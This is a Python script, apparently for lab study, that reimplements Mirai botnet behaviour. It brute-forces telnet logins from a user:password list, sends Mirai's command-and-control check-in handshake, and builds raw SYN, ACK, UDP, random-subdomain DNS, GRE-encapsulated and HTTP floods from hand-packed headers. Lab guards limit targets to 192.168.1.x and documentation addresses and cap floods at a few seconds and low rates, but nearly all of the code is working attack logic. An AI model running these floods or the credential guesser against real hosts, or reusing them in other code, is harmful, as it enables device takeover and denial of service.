#!/usr/bin/env python3
"""What a bot does after it has taken a device over, inside the lab only:

    bot.py guess HOST PAIRS             tries a list of user:password on a telnet server, four at a time (scanner.c)
    bot.py report HOST PORT SECONDS     greets its server as Mirai does, and keeps in touch
    bot.py flood KIND HOST              syn, ack, udp, dns, gre or http (attack_tcp.c, attack_udp.c, attack_gre.c, attack_app.c)
    bot.py serve PORT                   the other side of `report`, outside: says back what it hears
A flood lasts six seconds and is no faster than it must be to be one.
"""
import concurrent.futures
import pathlib
import random
import re
import select
import socket
import socketserver
import struct
import sys
import time

import lab_only

SECONDS = 6.3  # five whole seconds, wherever it begins
PER_SECOND = {"syn": 130, "ack": 1100, "udp": 550, "dns": 330, "gre": 550, "http": 220}
HTTP_PORT = 8080
CHANCE = random.Random(3)


def try_pair(host: str, user: str, password: str) -> None:
    """One connection, one pair; hangs up when the answer is there. Telnet's options are all refused (RFC 854)."""
    with socket.create_connection((host, 23), timeout=40) as server:
        heard = b""

        def wait_for(*words: bytes) -> None:
            nonlocal heard
            while not any(word in heard for word in words):
                more = server.recv(1024)
                if not more:
                    raise ConnectionError
                for option in re.finditer(rb"\xff[\xfb\xfd](.)", more, re.DOTALL):
                    server.sendall(b"\xff" + (b"\xfc" if option.group()[1] == 0xFD else b"\xfe") + option.group(1))
                heard += more

        for question, answer in ((b"ogin:", user), (b"assword:", password)):
            wait_for(question)
            heard = b""
            server.sendall(answer.encode() + b"\r\n")
        wait_for(b"ncorrect", b"# ", b"$ ")


def guess(host: str, pairs: list[str]) -> None:
    with concurrent.futures.ThreadPoolExecutor(4) as pool:
        list(pool.map(lambda pair: try_pair(host, *pair.split(":")), pairs))


def report(host: str, port: int, seconds: int) -> None:
    """main.c: 00 00 00 01, the length of an identifier, the identifier; then every minute two zero bytes, which come back."""
    with socket.create_connection((host, port)) as server:
        for greeting in (b"\0\0\0\1", b"\x04", b"arm7"):
            server.sendall(greeting)
            time.sleep(0.1)
        end = time.monotonic() + seconds
        while (left := end - time.monotonic()) > 0:
            server.sendall(b"\0\0")
            if select.select([server], [], [], 5)[0]:
                server.recv(64)
            time.sleep(max(0, min(60, left)))


class Server(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        while heard := self.request.recv(64):
            if heard == b"\0\0":
                self.request.sendall(heard)


def ip(source: str, target: str, proto: int, payload: bytes) -> bytes:
    # The kernel fills in the length and the checksum of the IP header. What can be constant is, so that a recording stays small.
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, proto, 0,
                       socket.inet_aton(source), socket.inet_aton(target)) + payload


def tcp(source: str, target: str, port: int, flags: int, data: bytes = b"") -> bytes:
    def segment(check: int) -> bytes:
        return struct.pack("!HHIIBBHHH", source_port, port, sequence, acknowledged, 5 << 4, flags, 0xFFFF, check, 0) + data

    source_port, sequence, acknowledged = CHANCE.randrange(1024, 65536), 1000, 1 if flags & 0x10 else 0
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!BBH", 0, 6, 20 + len(data))
    return ip(source, target, 6, segment(lab_only.checksum(pseudo + segment(0))))


def udp(source: str, target: str, port: int, data: bytes) -> bytes:
    return ip(source, target, 17, struct.pack("!HHHH", CHANCE.randrange(1024, 65536), port, 8 + len(data), 0) + data)


def question(domain: str) -> bytes:
    """A random name below the domain that is to fall (attack_udp_dns)."""
    labels = ["".join(CHANCE.choices("abcdefghijklmnopqrstuvwxyz0123456789", k=12)), *domain.split(".")]
    name = b"".join(bytes([len(label)]) + label.encode() for label in labels)
    return struct.pack("!HHHHHH", CHANCE.randrange(65536), 0x0100, 1, 0, 0, 0) + name + b"\0" + struct.pack("!HH", 1, 1)


def packet(kind: str, source: str, target: str) -> bytes:
    noise = b"linnet lab flood"
    inner = ip(f"198.51.100.{CHANCE.randrange(1, 255)}", target, 17, struct.pack("!HHHH", 4000, 4000, 8 + len(noise), 0) + noise)
    return {"syn": lambda: tcp(source, target, 80, 0x02), "ack": lambda: tcp(source, target, 80, 0x10, noise),
            "udp": lambda: udp(source, target, CHANCE.randrange(1024, 65536), noise), "dns": lambda: udp(source, target, 53, question("shop.example.com")),
            "gre": lambda: ip(source, target, 47, struct.pack("!HH", 0, 0x0800) + inner)}[kind]()


def paced(kind: str):
    """Yields as often as a second of this flood wants it."""
    begun = time.monotonic()
    for number in range(int(SECONDS * PER_SECOND[kind])):
        yield number
        time.sleep(max(0, begun + number / PER_SECOND[kind] - time.monotonic()))


def flood(kind: str, target: str) -> None:
    source = lab_only.own_address()
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for _ in paced(kind):
        raw.sendto(packet(kind, source, target), (target, 0))


def flood_http(target: str) -> None:
    """Over one connection, as attack_app.c does while the server keeps it open."""
    request = f"GET / HTTP/1.1\r\nHost: {target}\r\nUser-Agent: Mozilla/5.0\r\n\r\n".encode()
    with socket.create_connection((target, HTTP_PORT)) as server:
        for _ in paced("http"):
            server.sendall(request)
            server.recv(4096)


def main() -> None:
    what, *given = sys.argv[1:]
    if what == "serve":
        socketserver.ThreadingTCPServer.allow_reuse_address = True
        socketserver.ThreadingTCPServer(("", int(given[0])), Server).serve_forever()
    lab_only.refuse_elsewhere("bot")
    if what == "guess":
        if not given[0].startswith("192.168.1."):
            sys.exit("bot: guesses at home only")
        guess(given[0], pathlib.Path(given[1]).read_text().split())
        return
    if not given[1 if what == "flood" else 0].startswith(lab_only.OUTSIDE):
        sys.exit("bot: documentation addresses only")
    if what == "report":
        report(given[0], int(given[1]), int(given[2]))
    elif given[0] == "http":
        flood_http(given[1])
    else:
        flood(*given)


main()
